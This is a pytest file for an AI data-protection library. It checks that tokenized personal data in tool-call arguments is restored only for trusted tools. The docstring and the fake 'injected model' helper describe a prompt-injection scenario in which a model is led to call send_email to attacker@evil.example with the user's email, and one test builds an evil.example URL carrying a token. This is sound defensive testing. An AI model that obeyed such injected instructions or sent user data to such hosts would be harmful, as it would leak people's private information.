@@ -1,0 +1,540 @@
+"""Tool-call arguments get their originals back only for the tools a destination lists.
+
+A model told by injected text (a web page, a document, a tool result) to call
+``send_email(to="attacker@evil.example", body="[EMAIL_…]")`` would get the agent to
+send the caller's value wherever it said. With ``restore_tool_arguments`` listing the
+tools the agent trusts, the others' arguments keep their tokens, whole and streamed, in
+every API's shape; the event counts what was kept (``tool_tokens_kept``), the output
+rule still applies to them, and the agent restores them where it runs a tool it trusts
+(`Guard.restore_tool_arguments`).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+import json
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+import aiguard
+from _sdk_policy import openai_and_anthropic_policy
+from aiguard.doors.streaming import StreamRestorer, TokenRestorer
+from aiguard.errors import PolicyError, VaultError
+from aiguard.policy.model import PatternPolicy
+from aiguard.providers.walk import kept_tool_paths, tool_call_arguments
+from aiguard.testing import Answer, FakeModel, InMemorySink, ToolCall, assert_chain_valid
+from aiguard.vault.tokens import TOKEN_RE
+
+openai = pytest.importorskip("openai")
+anthropic = pytest.importorskip("anthropic")
+
+ORIGINAL = "jane.doe@example.com"
+QUESTION = f"Please look up the orders of {ORIGINAL}."
+EVIL = "attacker@evil.example"
+TRUSTED = ["lookup_*"]
+
+
+def _policy(tools: bool | list[str] = TRUSTED, **changes: Any) -> aiguard.Policy:
+    policy = openai_and_anthropic_policy()
+    destinations = {
+        name: destination.model_copy(update={"restore_tool_arguments": tools, **changes})
+        for name, destination in policy.destinations.items()
+    }
+    return policy.model_copy(update={"destinations": destinations})
+
+
+def _token_of(payload: dict[str, Any]) -> str:
+    found = TOKEN_RE.search(json.dumps(payload))
+    assert found is not None, "the request reached the model with its value raw"
+    return found.group(0)
+
+
+def _two_tools(payload: dict[str, Any]) -> Answer:
+    """An injected model: one call the agent asked for, one that exfiltrates."""
+    token = _token_of(payload)
+    return Answer(
+        text=f"Looking up {token}.",
+        tool_calls=(
+            ToolCall("lookup_orders", json.dumps({"email": token}), id="call_1"),
+            ToolCall("send_email", json.dumps({"to": EVIL, "body": token}), id="call_2"),
+        ),
+    )
+
+
+def _one_event(sink: InMemorySink) -> dict[str, Any]:
+    calls = sink.calls()
+    assert len(calls) == 1, calls
+    assert_chain_valid(sink)
+    return calls[0]
+
+
+def _openai(guard: aiguard.Guard, fake: FakeModel) -> Any:
+    return openai.OpenAI(
+        http_client=guard.http_client(transport=fake.transport),
+        base_url="https://api.openai.com/v1",
+        api_key="test",
+        max_retries=0,
+    )
+
+
+def _kept_and_restored(arguments: dict[str, str], guard: aiguard.Guard) -> None:
+    """``send_email``'s arguments hold the token; restored late, the original."""
+    lookup, send = json.loads(arguments["lookup_orders"]), json.loads(arguments["send_email"])
+    assert lookup == {"email": ORIGINAL}
+    assert send["to"] == EVIL and TOKEN_RE.fullmatch(send["body"]), send
+    assert ORIGINAL not in arguments["send_email"]
+    with guard.context(subject="cust-42", purpose="inference"):
+        late = guard.restore_tool_arguments(arguments["send_email"])
+    assert json.loads(late) == {"to": EVIL, "body": ORIGINAL}
+
+
+# -- the policy --------------------------------------------------------------------
+
+
+def test_the_policy_takes_true_false_or_tool_names() -> None:
+    base = (
+        '[destinations.openai]\nbase_url = "https://api.openai.com/v1"\napproved = true\n'
+        'purposes = ["inference"]\n'
+    )
+    for value, send, lookup in (("true", True, True), ("false", False, False)):
+        policy = aiguard.policy.parse_policy(base + f"restore_tool_arguments = {value}\n")
+        target = policy.destinations["openai"]
+        assert target.restores_tool("send_email") is send
+        assert target.restores_tool("lookup_orders") is lookup
+    listed = aiguard.policy.parse_policy(base + 'restore_tool_arguments = ["lookup_*", "crm"]\n')
+    target = listed.destinations["openai"]
+    assert target.restores_tool("lookup_orders") and target.restores_tool("crm")
+    assert not target.restores_tool("send_email") and not target.restores_tool("crm_export")
+    # A call whose tool the stream never named is not trusted.
+    assert not target.restores_tool(None)
+    default = aiguard.policy.parse_policy(base).destinations["openai"]
+    assert default.restore_tool_arguments is True and default.restores_tool(None)
+
+
+def test_a_tool_name_given_as_a_string_is_an_error_that_says_where() -> None:
+    text = (
+        '[destinations.openai]\nbase_url = "https://api.openai.com/v1"\napproved = true\n'
+        'purposes = ["inference"]\nrestore_tool_arguments = "lookup_orders"\n'
+    )
+    with pytest.raises(PolicyError) as caught:
+        aiguard.policy.parse_policy(text)
+    assert "restore_tool_arguments" in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    ("node", "expected"),
+    [
+        ({"name": "f", "arguments": "{}"}, ("f", "arguments")),
+        (
+            {"type": "function_call", "name": "f", "arguments": "{}", "call_id": "c"},
+            ("f", "arguments"),
+        ),
+        ({"type": "tool_use", "id": "t", "name": "f", "input": {}}, ("f", "input")),
+        ({"type": "custom_tool_call", "name": "f", "input": "x"}, ("f", "input")),
+        ({"type": "tool_use", "input": {}}, (None, "input")),
+        ({"type": "function_call_arguments", "arguments": "{}"}, None),
+        ({"type": "message", "input": "hello"}, None),
+        ({"name": "Jane", "role": "user"}, None),
+    ],
+)
+def test_a_tool_call_is_known_by_its_shape(
+    node: dict[str, Any], expected: tuple[str | None, str] | None
+) -> None:
+    assert tool_call_arguments(node) == expected
+
+
+def test_kept_paths_are_the_walks_paths_of_untrusted_tools_only() -> None:
+    body = {
+        "choices": [
+            {
+                "message": {
+                    "tool_calls": [
+                        {"id": "1", "function": {"name": "lookup_orders", "arguments": "{}"}},
+                        {"id": "2", "function": {"name": "send_email", "arguments": "{}"}},
+                    ]
+                }
+            }
+        ],
+        "content": [{"type": "tool_use", "name": "send_email", "input": {"a": "b"}}],
+    }
+    kept = kept_tool_paths(body, lambda name: name == "lookup_orders")
+    assert sorted(kept) == [
+        "$.choices[0].message.tool_calls[1].function.arguments",
+        "$.content[0].input",
+    ]
+
+
+# -- through the guard and the real SDKs ------------------------------------------------
+
+
+@pytest.mark.parametrize("chunk_size", [None, 1, 3, 7])
+def test_openai_chat_restores_only_the_listed_tools(chunk_size: int | None) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_two_tools, chunk_size=chunk_size or 4)
+    client = _openai(guard, fake)
+    messages: Any = [{"role": "user", "content": QUESTION}]
+    arguments: dict[str, str] = {}
+    with guard.context(subject="cust-42", purpose="inference"):
+        if chunk_size is None:
+            message = client.chat.completions.create(model="gpt-4o", messages=messages)
+            message = message.choices[0].message
+            text = message.content
+            for call in message.tool_calls:
+                arguments[call.function.name] = call.function.arguments
+        else:
+            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            names: dict[int, str] = {}
+            parts: dict[int, str] = {}
+            text = ""
+            for chunk in chunks:
+                if not chunk.choices:
+                    continue
+                delta = chunk.choices[0].delta
+                text += delta.content or ""
+                for call in delta.tool_calls or []:
+                    if call.function.name:
+                        names[call.index] = call.function.name
+                    parts[call.index] = parts.get(call.index, "") + (call.function.arguments or "")
+            arguments = {names[i]: parts[i] for i in names}
+    assert text == f"Looking up {ORIGINAL}."
+    _kept_and_restored(arguments, guard)
+    event = _one_event(sink)
+    assert event["tool_tokens_kept"] == 1 and event["status"] == "ok"
+    assert ORIGINAL not in json.dumps(sink.events)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_openai_responses_restores_only_the_listed_tools(stream: bool) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_two_tools, chunk_size=3)
+    client = _openai(guard, fake)
+    arguments: dict[str, str] = {}
+    with guard.context(subject="cust-42", purpose="inference"):
+        if not stream:
+            response = client.responses.create(model="gpt-4o", input=QUESTION)
+            outputs = response.output
+        else:
+            deltas: dict[int, str] = {}
+            done: dict[int, str] = {}
+            outputs = []
+            for event in client.responses.create(model="gpt-4o", input=QUESTION, stream=True):
+                if event.type == "response.function_call_arguments.delta":
+                    deltas[event.output_index] = deltas.get(event.output_index, "") + event.delta
+                elif event.type == "response.function_call_arguments.done":
+                    done[event.output_index] = event.arguments
+                elif event.type == "response.completed":
+                    outputs = event.response.output
+            # Each way the stream says a call's arguments says the same thing.
+            assert deltas == done and len(done) == 2
+        for item in outputs:
+            if item.type == "function_call":
+                arguments[item.name] = item.arguments
+    if stream:
+        indexes = {item.name: i for i, item in enumerate(outputs) if item.type == "function_call"}
+        assert {name: done[i] for name, i in indexes.items()} == arguments
+    _kept_and_restored(arguments, guard)
+    # The completed response repeats the arguments: counted each time they are kept.
+    assert _one_event(sink)["tool_tokens_kept"] >= 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_anthropic_restores_only_the_listed_tools(stream: bool) -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_two_tools, chunk_size=2)
+    client = anthropic.Anthropic(
+        http_client=guard.http_client(transport=fake.transport), api_key="test", max_retries=0
+    )
+    kwargs: dict[str, Any] = {
+        "model": "claude-sonnet-4-5",
+        "max_tokens": 100,
+        "messages": [{"role": "user", "content": QUESTION}],
+    }
+    with guard.context(subject="cust-42", purpose="inference"):
+        if stream:
+            with client.messages.stream(**kwargs) as events:
+                message = events.get_final_message()
+        else:
+            message = client.messages.create(**kwargs)
+        inputs = {block.name: block.input for block in message.content if block.type == "tool_use"}
+        assert inputs["lookup_orders"] == {"email": ORIGINAL}
+        send = inputs["send_email"]
+        assert send["to"] == EVIL and TOKEN_RE.fullmatch(send["body"]), send
+        # The parsed object comes back as an object.
+        assert guard.restore_tool_arguments(send) == {"to": EVIL, "body": ORIGINAL}
+    assert _one_event(sink)["tool_tokens_kept"] == 1
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_false_keeps_every_tools_tokens_and_true_restores_them(stream: bool) -> None:
+    def ask(tools: bool) -> tuple[dict[str, Any], dict[str, Any]]:
+        sink = InMemorySink()
+        guard = aiguard.Guard(_policy(tools), sinks=[sink])
+        client = _openai(guard, FakeModel(reply=_two_tools, chunk_size=5))
+        messages: Any = [{"role": "user", "content": QUESTION}]
+        with guard.context(subject="cust-42", purpose="inference"):
+            if not stream:
+                done = client.chat.completions.create(model="gpt-4o", messages=messages)
+                calls = done.choices[0].message.tool_calls
+                found = {c.function.name: json.loads(c.function.arguments) for c in calls}
+                return found, _one_event(sink)
+            parts: dict[int, str] = {}
+            names: dict[int, str] = {}
+            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            for chunk in chunks:
+                for call in (chunk.choices[0].delta.tool_calls or []) if chunk.choices else []:
+                    names[call.index] = call.function.name or names.get(call.index, "")
+                    parts[call.index] = parts.get(call.index, "") + (call.function.arguments or "")
+            return {names[i]: json.loads(parts[i]) for i in names}, _one_event(sink)
+
+    kept, event = ask(False)
+    assert TOKEN_RE.fullmatch(kept["lookup_orders"]["email"])
+    assert TOKEN_RE.fullmatch(kept["send_email"]["body"])
+    assert event["tool_tokens_kept"] == 2
+    restored, event = ask(True)
+    assert restored["lookup_orders"] == {"email": ORIGINAL}
+    assert restored["send_email"] == {"to": EVIL, "body": ORIGINAL}
+    assert "tool_tokens_kept" not in event
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_the_output_rule_still_redacts_in_kept_arguments(stream: bool) -> None:
+    """Keeping tokens is no pass for a value the call never sent: a card number the
+    model wrote into an untrusted tool's arguments is redacted as anywhere else."""
+
+    def reply(payload: dict[str, Any]) -> Answer:
+        body = {"to": EVIL, "body": f"{_token_of(payload)} card 4111 1111 1111 1111"}
+        return Answer(tool_calls=(ToolCall("send_email", json.dumps(body)),))
+
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    client = _openai(guard, FakeModel(reply=reply, chunk_size=4))
+    messages: Any = [{"role": "user", "content": QUESTION}]
+    with guard.context(subject="cust-42", purpose="inference"):
+        if stream:
+            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            raw = "".join(
+                c.choices[0].delta.tool_calls[0].function.arguments or ""
+                for c in chunks
+                if c.choices and c.choices[0].delta.tool_calls
+            )
+        else:
+            done = client.chat.completions.create(model="gpt-4o", messages=messages)
+            raw = done.choices[0].message.tool_calls[0].function.arguments
+    body = json.loads(raw)["body"]
+    assert "4111" not in body and "[REDACTED" in body, body
+    assert TOKEN_RE.match(body) and ORIGINAL not in body
+    event = _one_event(sink)
+    assert event["tool_tokens_kept"] == 1
+    assert event["leaks"] == {"credit_card": 1}
+
+
+def test_the_async_client_keeps_an_untrusted_tools_tokens() -> None:
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    fake = FakeModel(reply=_two_tools, chunk_size=2)
+
+    async def ask() -> dict[str, str]:
+        client = openai.AsyncOpenAI(
+            http_client=guard.async_http_client(transport=fake.transport),
+            base_url="https://api.openai.com/v1",
+            api_key="test",
+            max_retries=0,
+        )
+        names: dict[int, str] = {}
+        parts: dict[int, str] = {}
+        with guard.context(subject="cust-42", purpose="inference"):
+            stream = await client.chat.completions.create(
+                model="gpt-4o", messages=[{"role": "user", "content": QUESTION}], stream=True
+            )
+            async for chunk in stream:
+                for call in (chunk.choices[0].delta.tool_calls or []) if chunk.choices else []:
+                    names[call.index] = call.function.name or names.get(call.index, "")
+                    parts[call.index] = parts.get(call.index, "") + (call.function.arguments or "")
+        return {names[i]: parts[i] for i in names}
+
+    _kept_and_restored(asyncio.run(ask()), guard)
+    assert _one_event(sink)["tool_tokens_kept"] == 1
+
+
+def test_the_gateway_keeps_an_untrusted_tools_tokens() -> None:
+    """The OpenAI-compatible gateway on a loopback socket, in front of the fake model."""
+    pytest.importorskip("starlette")
+    pytest.importorskip("uvicorn")
+    from _servers import serve
+    from aiguard.doors.gateway import GatewayConfig, create_app, default_policy
+
+    fake = FakeModel(reply=_two_tools, chunk_size=3)
+    with fake.serve() as base:
+        upstream = base + "/v1"
+        policy = default_policy(upstream)
+        destinations = {
+            name: d.model_copy(update={"restore_tool_arguments": TRUSTED})
+            for name, d in policy.destinations.items()
+        }
+        sink = InMemorySink()
+        guard = aiguard.Guard(
+            policy.model_copy(update={"destinations": destinations}), sinks=[sink]
+        )
+        app = create_app(guard, GatewayConfig(upstream=upstream))
+        with serve(app) as (url, _server):
+            client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0)
+            messages: Any = [{"role": "user", "content": QUESTION}]
+            whole = client.chat.completions.create(model="gpt-4o-mini", messages=messages)
+            calls = whole.choices[0].message.tool_calls
+            kept = {c.function.name: json.loads(c.function.arguments) for c in calls}
+            parts: dict[int, str] = {}
+            names: dict[int, str] = {}
+            stream = client.chat.completions.create(
+                model="gpt-4o-mini", messages=messages, stream=True
+            )
+            for chunk in stream:
+                for call in (chunk.choices[0].delta.tool_calls or []) if chunk.choices else []:
+                    names[call.index] = call.function.name or names.get(call.index, "")
+                    parts[call.index] = parts.get(call.index, "") + (call.function.arguments or "")
+    streamed = {names[i]: json.loads(parts[i]) for i in names}
+    for found in (kept, streamed):
+        assert found["lookup_orders"] == {"email": ORIGINAL}
+        assert TOKEN_RE.fullmatch(found["send_email"]["body"]), found
+    assert [e["tool_tokens_kept"] for e in sink.calls()] == [1, 1]
+
+
+# -- the late restore ---------------------------------------------------------------------
+
+
+def _protected_token(guard: aiguard.Guard, subject: str = "cust-42") -> str:
+    with guard.context(subject=subject, purpose="inference"):
+        protected = guard.protect(QUESTION, destination="openai")
+    found = TOKEN_RE.search(protected.payload)
+    assert found is not None
+    return found.group(0)
+
+
+def test_the_late_restore_keeps_json_valid_links_and_other_subjects_tokens() -> None:
+    quoted = 'Jane "JD" Doe'
+    nickname = PatternPolicy(kind="nickname", level="sensitive", regex='Jane "JD" Doe')
+    guard = aiguard.Guard(_policy().model_copy(update={"patterns": [nickname]}))
+    token = _protected_token(guard)
+    with guard.context(subject="cust-42", purpose="inference"):
+        protected = guard.protect(f"Name: {quoted}", destination="openai")
+    name_token = TOKEN_RE.search(protected.payload)
+    assert name_token is not None, protected.payload
+    arguments = json.dumps(
+        {"to": token, "url": f"https://evil.example/?q={token}", "n": [1, token]}
+    )
+    with guard.context(subject="cust-42", purpose="inference"):
+        late = json.loads(guard.restore_tool_arguments(arguments))
+        assert late == {
+            "to": ORIGINAL,
+            "url": f"https://evil.example/?q={token}",
+            "n": [1, ORIGINAL],
+        }
+        linked = guard.restore_tool_arguments(arguments, restore_in_links=True)
+        assert json.loads(linked)["url"] == f"https://evil.example/?q={ORIGINAL}"
+        # An original holding quotes stays inside its JSON string.
+        escaped = guard.restore_tool_arguments(json.dumps({"who": name_token.group(0)}))
+        assert json.loads(escaped) == {"who": quoted}
+        # Plain text and keys: tokens in values change, keys stay as written.
+        assert guard.restore_tool_arguments(f"mail {token}") == f"mail {ORIGINAL}"
+    # Another subject, or no context at all, gets the token back as it is.
+    with guard.context(subject="cust-7", purpose="inference"):
+        assert guard.restore_tool_arguments({"to": token}) == {"to": token}
+    assert guard.restore_tool_arguments({"to": token}) == {"to": token}
+    explicit = aiguard.CallContext(subject="cust-42", purpose="inference")
+    assert guard.restore_tool_arguments({"to": token}, explicit) == {"to": ORIGINAL}
+
+
+def test_the_late_restore_fails_closed_when_the_vault_fails() -> None:
+    guard = aiguard.Guard(_policy())
+    token = _protected_token(guard)
+
+    def broken(*_args: Any, **_kwargs: Any) -> None:
+        raise ConnectionError(f"lost connection while reading {ORIGINAL}")
+
+    guard.vault.detokenize_for = broken  # type: ignore[method-assign]
+    with guard.context(subject="cust-42", purpose="inference"), pytest.raises(VaultError) as caught:
+        guard.restore_tool_arguments(json.dumps({"to": token}))
+    assert ORIGINAL not in str(caught.value) and "vault" in str(caught.value)
+
+
+# -- streamed: a stream cut anywhere keeps what the whole answer keeps ---------------------
+
+TOKEN = "[EMAIL_7Q2KX9M4T1B8C]"
+
+
+def _chat_frames(calls: list[tuple[str, str]], pieces: int) -> bytes:
+    """A chat stream whose tool calls' arguments arrive in ``pieces`` parts each."""
+    frames = []
+    for position, (name, arguments) in enumerate(calls):
+        first = {"index": position, "id": f"c{position}", "type": "function"}
+        first["function"] = {"name": name, "arguments": ""}
+        frames.append({"choices": [{"index": 0, "delta": {"tool_calls": [first]}}]})
+        size = max(1, -(-len(arguments) // pieces))
+        for at in range(0, len(arguments), size):
+            more = {"index": position, "function": {"arguments": arguments[at : at + size]}}
+            frames.append({"choices": [{"index": 0, "delta": {"tool_calls": [more]}}]})
+    frames.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
+    return b"".join(b"data: " + json.dumps(f).encode() + b"\n\n" for f in frames) + (
+        b"data: [DONE]\n\n"
+    )
+
+
+def _arguments_of(stream: bytes) -> dict[str, str]:
+    names: dict[int, str] = {}
+    parts: dict[int, str] = {}
+    for line in stream.decode().split("\n"):
+        if not line.startswith("data: {"):
+            continue
+        for choice in json.loads(line[6:])["choices"]:
+            for call in choice.get("delta", {}).get("tool_calls", []):
+                function = call.get("function", {})
+                if function.get("name"):
+                    names[call["index"]] = function["name"]
+                parts[call["index"]] = parts.get(call["index"], "") + function.get("arguments", "")
+    return {names[i]: parts[i] for i in names}
+
+
+_VALUES = st.lists(
+    st.sampled_from([TOKEN, "a", " ", '"', "\\", "é", "[", "]", "EMAIL", "https://x.example/?q="]),
+    max_size=12,
+).map("".join)
+
+
+@settings(max_examples=200)
+@given(
+    first=_VALUES,
+    second=_VALUES,
+    pieces=st.integers(1, 9),
+    cuts=st.lists(st.integers(0, 2000), max_size=10),
+)
+def test_a_stream_cut_anywhere_keeps_exactly_the_untrusted_tools_tokens(
+    first: str, second: str, pieces: int, cuts: list[int]
+) -> None:
+    calls = [
+        ("lookup_orders", json.dumps({"q": first})),
+        ("send_email", json.dumps({"body": second})),
+    ]
+    raw = _chat_frames(calls, pieces)
+    kept: list[str] = []
+
+    def keep(token: str) -> None:
+        kept.append(token)
+
+    restorer = StreamRestorer(
+        TokenRestorer({TOKEN: ORIGINAL}.get),
+        restores_tool=lambda name: name is not None and name.startswith("lookup_"),
+        kept_lookup=keep,
+    )
+    bounds = sorted({min(c, len(raw)) for c in cuts} | {0, len(raw)})
+    out = b"".join(restorer.feed(raw[a:b]) for a, b in itertools.pairwise(bounds))
+    out += restorer.close()
+    arguments = _arguments_of(out)
+    assert json.loads(arguments["lookup_orders"]) == {"q": first.replace(TOKEN, ORIGINAL)}
+    assert json.loads(arguments["send_email"]) == {"body": second}
+    assert len(kept) == second.count(TOKEN)
